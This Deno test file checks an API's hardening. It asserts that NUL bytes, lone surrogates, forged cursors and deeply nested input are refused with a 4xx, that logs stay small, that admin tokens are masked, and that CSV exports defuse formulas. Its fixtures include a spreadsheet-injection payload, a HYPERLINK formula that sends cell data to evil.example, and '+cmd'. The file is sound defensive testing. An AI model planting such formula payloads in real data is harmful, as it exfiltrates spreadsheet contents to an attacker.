// Issue 13, findings 5, 7 and 9, against the real api/main.ts process over real sockets: odd input is a
// 4xx (never a 500), a 1,000-knot schedule is stored, logs stay small, CSV cells cannot be formulas,
// ADMIN_TOKEN has a format and is never listed by its first characters.
import assert from "node:assert/strict";
import { type ApiProcess, startApiProcess } from "./helpers/api-process.deno.ts";
import { createTestDatabase, type TestDatabase } from "./helpers/test-database.ts";

const opts = { sanitizeOps: false, sanitizeResources: false };
const ADMIN = `rjt_hostile-${crypto.randomUUID()}`;
const SPEC = { schedule: "[1e-3, 0]lin[1e-3, 2]", data: { dataset: "synthetic", trainSize: 64, imageSize: 8 }, model: { depth: 11 } };
let db: TestDatabase;
let api: ApiProcess;

Deno.test.beforeAll(async () => {
  db = await createTestDatabase();
  api = await startApiProcess({ databaseUrl: db.url, env: { ADMIN_TOKEN: ADMIN } });
});
Deno.test.afterAll(async () => {
  await api.stop();
  await db.drop();
});

function call(path: string, init: RequestInit = {}): Promise<Response> {
  const headers = new Headers(init.headers);
  headers.set("authorization", `Bearer ${ADMIN}`);
  if (init.body !== undefined) headers.set("content-type", "application/json");
  return fetch(`${api.url}${path}`, { ...init, headers });
}
const post = (path: string, body: string) => call(path, { method: "POST", body });

const b64url = (s: string) => btoa(s).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");

Deno.test({
  ...opts,
  name: "NUL, lone surrogates, forged cursors and a 100k-deep sweep base are 4xx, never 500",
  fn: async () => {
    const spec = (extra: string) => `{"schedule":"[1e-3, 0]lin[1e-3, 2]"${extra}}`;
    const cases: [string, () => Promise<Response>][] = [
      ["name with NUL", () => post("/v1/runs", spec(`,"name":"a\\u0000b"`))],
      ["name with a lone high surrogate", () => post("/v1/runs", spec(`,"name":"a\\ud800b"`))],
      ["name with a lone low surrogate", () => post("/v1/runs", spec(`,"name":"\\udc00"`))],
      ["tag with NUL", () => post("/v1/runs", spec(`,"tags":["x\\u0000"]`))],
      ["key with NUL", () => post("/v1/runs", spec(`,"a\\u0000":1`))],
      ["sweep grid value with NUL", () => post("/v1/sweeps", `{"name":"s","base":${spec("")},"grid":{"name":["a\\u0000"]}}`)],
      ["sweep grid value with a lone surrogate", () => post("/v1/sweeps", `{"name":"s","base":${spec("")},"grid":{"tags":[["\\ud83d"]]}}`)],
      ["sweep base 100k deep", () => post("/v1/sweeps", `{"name":"deep","base":{"x":${"[".repeat(100_000)}${"]".repeat(100_000)}}}`)],
      ["namePrefix with NUL", () => call("/v1/runs?namePrefix=%00")],
      ["tag with NUL in the query", () => call("/v1/runs?tag=a%00b")],
      ["cursor with a bad time", () => call(`/v1/runs?cursor=${b64url(JSON.stringify({ k: "yesterday", id: crypto.randomUUID(), s: "-createdAt" }))}`)],
      ["cursor with a bad uuid", () => call(`/v1/runs?cursor=${b64url(JSON.stringify({ k: "2026-01-01 00:00:00+00", id: "-".repeat(36), s: "-createdAt" }))}`)],
      ["name cursor with NUL", () => call(`/v1/runs?sort=name&cursor=${b64url(JSON.stringify({ k: "a\u0000", id: crypto.randomUUID(), s: "name" }))}`)],
      ["cursor that is not base64 JSON", () => call("/v1/runs?cursor=%FF%FE")],
    ];
    const statuses: string[] = [];
    for (const [what, send] of cases) {
      const res = await send();
      const body = await res.text();
      statuses.push(`${what}: ${res.status}`);
      assert.ok(res.status >= 400 && res.status < 500, `${what}: expected 4xx, got ${res.status} ${body.slice(0, 300)}`);
    }
    const health = await fetch(`${api.url}/healthz`);
    assert.equal(health.status, 200, "the API is still fine");
    await health.body?.cancel();
  },
});

Deno.test({
  ...opts,
  name: "a 1,000-knot schedule (epochs up to 1000, as the spec allows) is stored, and the log stays small",
  fn: async () => {
    const knots = Array.from({ length: 1001 }, (_, i) => `[1.234567e-3, ${i}]`).join("lin");
    const before = api.output().length;
    const res = await post("/v1/runs", JSON.stringify({ ...SPEC, name: "many knots", schedule: knots }));
    assert.equal(res.status, 201, await res.text());
    const listed = await call(`/v1/runs?limit=1`);
    assert.equal(listed.status, 200);
    await listed.body?.cancel();
    assert.ok(api.output().length - before < 20_000, `log grew by ${api.output().length - before} characters`);
  },
});

Deno.test({
  ...opts,
  name: "CSV from /v1/report and /v1/sql cannot carry a live spreadsheet formula",
  fn: async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    for (const name of [evil, "+cmd", "-2+3", "@SUM(A1)"]) {
      const res = await post("/v1/runs", JSON.stringify({ ...SPEC, name }));
      assert.equal(res.status, 201);
      await res.body?.cancel();
    }
    const report = await (await call("/v1/report?format=csv")).text();
    const sql = await (await call("/v1/sql", {
      method: "POST",
      body: JSON.stringify({ sql: "select name from runs_view where name is not null order by name" }),
      headers: { accept: "text/csv" },
    })).text();
    for (const csv of [report, sql]) {
      const cells = csv.split("\r\n").flatMap((line) => line.split(","));
      for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+\-@]/, `a live formula: ${cell}\n${csv}`);
      assert.match(csv, /'=HYPERLINK/);
      assert.match(csv, /'\+cmd/);
    }
  },
});

Deno.test({
  ...opts,
  name: "ADMIN_TOKEN is listed by a hash label, and a short one is refused at start",
  fn: async () => {
    const list = await (await call("/v1/tokens")).json();
    const admin = list.tokens.find((t: { name: string }) => t.name === "ADMIN_TOKEN");
    assert.match(admin.prefix, /^sha256:[0-9a-f]{8}$/);
    assert.ok(!JSON.stringify(list).includes(ADMIN.slice(4, 12)), "no characters of the token itself");
    const child = new Deno.Command(Deno.execPath(), {
      args: ["run", "-A", "api/main.ts"],
      cwd: new URL("..", import.meta.url).pathname,
      env: { DATABASE_URL: db.url, PORT: "0", ADMIN_TOKEN: "rjt_short" },
      stdout: "piped",
      stderr: "piped",
    });
    const out = await child.output();
    assert.equal(out.code, 2);
    assert.match(new TextDecoder().decode(out.stderr), /ADMIN_TOKEN: must be rjt_ followed by 32 to 512/);
  },
});
